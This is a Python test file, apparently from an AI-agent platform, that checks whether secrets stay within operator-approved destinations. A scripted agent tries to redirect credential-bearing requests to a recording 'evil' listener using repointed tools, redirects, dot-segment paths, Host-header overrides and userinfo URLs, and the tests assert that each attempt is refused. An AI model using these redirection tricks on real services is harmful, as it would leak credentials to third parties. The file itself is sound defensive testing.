"""Invariant 2, destinations: a Secret goes only where the operator's Secret says, whatever a
developer writes into a Tool or a ModelPolicy and whatever URL, redirect or header an agent tries.

Every way to move a request's destination is tried against a listener that records what it gets;
a twin tenant holds resources of the same names whose Secret *does* allow the listener, so a
decision keyed by name alone would leak."""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from bastion.policy import HttpTarget, destination_allows, parse_target
from bastion.testing import FakeProvider, reply

from ._agents import builtin_tool, code_agent, grant_for, http_tool, wait_finished
from ._docs import raw
from ._hostile_server import Answer, Hostile, Seen, hostile_server
from .conftest import Tenant
from .test_llm_agent import model_policy

TOKEN = "tok-3Hc9-Wq7e-Lm2x-Rv8p"
TWIN_TOKEN = "twin-8Kd2-Pz5q-Xy4w-Nb1c"

AGENT = """
from bastion import agent

def attempt(name, **args):
    try:
        return {"status": agent.tools.call(name, **args)["status"]}
    except agent.ToolDenied as exc:
        return {"denied": str(exc)}
    except agent.ToolFailed as exc:
        return {"failed": str(exc)}

def main(input):
    legit, evil = input["legit"], input["evil"]
    return {
        "tool": attempt("weather"),
        "repointed-tool": attempt("weather-moved"),
        "fetch-legit": attempt("fetch", url=f"http://{legit}/forecast"),
        "fetch-elsewhere": attempt("fetch", url=f"http://{evil}/forecast"),
        "redirect": attempt("fetch", url=f"http://{legit}/forecast/moved"),
        "follow-redirect": attempt("fetch", url=f"http://{evil}/landing"),
        "sibling-path": attempt("fetch", url=f"http://{legit}/forecast-admin"),
        "dot-segments": attempt("fetch", url=f"http://{legit}/forecast/../admin"),
        "host-header": attempt("fetch", url=f"http://{legit}/forecast", headers={"Host": evil}),
        "userinfo": attempt("fetch", url=f"http://{legit}@{evil}/forecast"),
        "no-destinations": attempt("bare"),
    }
"""


def _secret(name: str, token: str, tools: list[str], destinations: list[str] | None) -> dict[str, Any]:
    spec: dict[str, Any] = {"stringData": {"token": token}, "usableBy": {"tools": tools}}
    if destinations is not None:
        spec["destinations"] = destinations
    return {"apiVersion": "bastion/v1", "kind": "Secret", "metadata": {"name": name}, "spec": spec}


def _apply_world(tenant: Tenant, legit: Hostile, evil: Hostile, token: str, destinations: list[str]) -> None:
    header = {"Authorization": "Bearer {secret:api-key}"}
    fetch = builtin_tool("fetch", "http.fetch", headers={"X-Api-Key": "{secret:api-key}"})
    fetch["spec"]["secrets"] = ["api-key"]
    tools = ["weather", "weather-moved", "fetch", "bare"]
    with tenant.client("operator") as operator:
        operator.apply(
            raw(
                _secret("api-key", token, tools, destinations),
                _secret("bare", token + "-bare", ["bare"], None),
                grant_for("roamer", *tools, egress=[legit.host, evil.host]),
            )
        )
    with tenant.client("developer") as developer:  # Tools are a developer's to write
        developer.apply(
            raw(
                http_tool("weather", f"{legit.url}/forecast", headers=header, secrets=["api-key"]),
                http_tool("weather-moved", f"{evil.url}/forecast", headers=header, secrets=["api-key"]),
                fetch,
                http_tool(
                    "bare", f"{legit.url}/forecast", headers={"X-Key": "{secret:bare}"}, secrets=["bare"]
                ),
                _patient(code_agent("roamer", AGENT, tools=tools)),
            )
        )


def _patient(agent: dict[str, Any]) -> dict[str, Any]:
    """An agent whose error budget outlasts every refusal the test provokes."""
    agent["spec"]["errorBudget"] = {"maxErrors": 100, "maxRepeats": 100, "revokeOnViolation": False}
    return agent


def _legit(evil: list[Hostile]) -> Any:
    def respond(seen: Seen) -> Answer:
        if seen.path.startswith("/forecast/moved"):
            return Answer(302, [("Location", f"{evil[0].url}/landing")], b"")
        return Answer(200, body=json.dumps({"forecast": "sun"}).encode())

    return respond


def test_a_secret_goes_only_where_its_secret_says(tenant: Tenant, other_tenant: Tenant) -> None:
    evils: list[Hostile] = []
    with hostile_server() as evil, hostile_server(_legit(evils)) as legit:
        evils.append(evil)
        # The twin: same names, but its operator lets its key go to the listener.
        _apply_world(
            other_tenant, legit, evil, TWIN_TOKEN, [f"http://{evil.host}", f"http://{legit.host}/forecast"]
        )
        with other_tenant.client() as client:
            twin_run = wait_finished(
                client, client.create_run("roamer", {"legit": legit.host, "evil": evil.host})["id"]
            )
        assert twin_run["result"]["repointed-tool"] == {"status": 200}, twin_run
        assert any(s.carries(TWIN_TOKEN) for s in evil.seen), "the twin's own destination works"
        evil.seen.clear()

        _apply_world(tenant, legit, evil, TOKEN, [f"http://{legit.host}/forecast"])
        with tenant.client() as client:
            run = wait_finished(
                client, client.create_run("roamer", {"legit": legit.host, "evil": evil.host})["id"]
            )
            assert run["state"] == "Succeeded", run
            journal = client.journal(run["id"])
        result: dict[str, dict[str, Any]] = run["result"]

    assert [s for s in evil.seen if s.carries(TOKEN)] == [], "the listener received the secret"
    assert all(not s.carries(TOKEN) or s.path.startswith("/forecast") for s in legit.seen)
    assert result["tool"] == {"status": 200}
    assert result["fetch-legit"] == {"status": 200}
    assert result["redirect"] == {"status": 302}, "a redirect is returned, not followed"
    refused = f"secret 'api-key' may not be sent to 'http://{evil.host}/"
    for case in ("repointed-tool", "fetch-elsewhere", "follow-redirect"):
        assert refused in result[case].get("denied", ""), (case, result[case])
        assert "an operator adds it to Secret 'api-key' spec.destinations" in result[case]["denied"]
    for case in ("sibling-path", "dot-segments"):
        assert f"may not be sent to 'http://{legit.host}/" in result[case].get("denied", ""), (case, result)
    assert "'Host'" in result["host-header"].get("failed", ""), result["host-header"]
    assert "must not carry credentials" in str(result["userinfo"]), result["userinfo"]
    assert "declares no spec.destinations" in result["no-destinations"].get("denied", "")

    denials = [e for e in journal if e["decision"] == "deny"]
    assert len(denials) == 7  # six destinations refused, and the URL with credentials
    rules = {r["rule"] for e in denials for r in e["reasons"]}
    assert rules >= {"secret/api-key/destinations", "secret/bare/destinations"}
    assert TOKEN not in json.dumps(journal)


def test_a_model_policy_pointed_elsewhere_gets_a_denial_not_the_key(tenant: Tenant) -> None:
    key = "sk-live-7Qw2-Er5t-Yu8i"
    with (
        hostile_server() as evil,
        FakeProvider(reply("from the real provider"), api_key=key) as fake,
        tenant.client("operator") as operator,
        tenant.client("developer") as developer,
    ):
        operator.apply(
            raw(
                {
                    "apiVersion": "bastion/v1",
                    "kind": "Secret",
                    "metadata": {"name": "upstream"},
                    "spec": {
                        "stringData": {"apiKey": key},
                        "usableBy": {"providers": ["openai"]},
                        "destinations": [fake.openai_url],
                    },
                }
            )
        )
        moved = {"provider": "openai", "model": "m", "baseUrl": f"{evil.url}/v1", "secret": "upstream"}
        real = {"provider": "openai", "model": "m", "baseUrl": fake.openai_url, "secret": "upstream"}
        developer.apply(raw(model_policy("moved", moved), model_policy("chain", moved, real)))
        url = f"{tenant.server.url}/llm/v1/chat/completions"
        auth = {"Authorization": f"Bearer {tenant.admin_key}"}
        body: dict[str, Any] = {"messages": [{"role": "user", "content": "hi"}]}
        denied = httpx.post(url, json={**body, "model": "moved"}, headers=auth, timeout=30)
        # A fallback chain skips the target the key may not go to and uses the one it may.
        chained = httpx.post(url, json={**body, "model": "chain"}, headers=auth, timeout=30)
        runs = [r for r in operator.list_runs(limit=10) if r["agent"].startswith("api-")]
        journals = [operator.journal(r["id"]) for r in runs]

    assert evil.seen == [], "the re-pointed provider endpoint received a request"
    assert denied.status_code >= 400, denied.text
    assert "secret 'upstream' may not be sent to" in denied.text and "spec.destinations" in denied.text
    assert chained.status_code == 200, chained.text
    assert chained.json()["choices"][0]["message"]["content"] == "from the real provider"
    decisions = sorted(e["decision"] for journal in journals for e in journal)
    assert decisions == ["allow", "deny"]
    assert key not in json.dumps(journals)


@pytest.mark.parametrize(
    ("destination", "url", "allowed"),
    [
        ("https://api.example.com/v1/", "https://api.example.com/v1/chat", True),
        ("https://api.example.com/v1", "https://api.example.com/v1", True),
        ("https://api.example.com/v1", "https://api.example.com/v10", False),
        ("https://api.example.com/v1", "http://api.example.com/v1/x", False),
        ("https://api.example.com/v1", "https://api.example.com:8443/v1/x", False),
        ("https://api.example.com/v1", "https://api.example.com/v1/../admin", False),
        ("https://api.example.com/v1", "https://API.Example.COM./v1/x", True),
        ("https://api.example.com", "https://api.example.com.evil.net/", False),
        ("api.example.com", "https://api.example.com/anything", True),
        ("api.example.com", "https://api.example.com:444/", False),
        ("*.example.com", "https://a.b.example.com/", True),
        ("*.example.com", "https://example.com/", False),
        ("fass.de", "https://faß.de/", False),  # IDNA 2008: xn--fa-hia.de, not fass.de
        ("https://api.example.com/v1?x=1", "https://api.example.com/v1", False),
        ("not a destination", "https://api.example.com/", False),
    ],
)
def test_destination_grammar(destination: str, url: str, allowed: bool) -> None:
    target = parse_target(url)
    assert isinstance(target, HttpTarget), target
    assert destination_allows(destination, target) is allowed
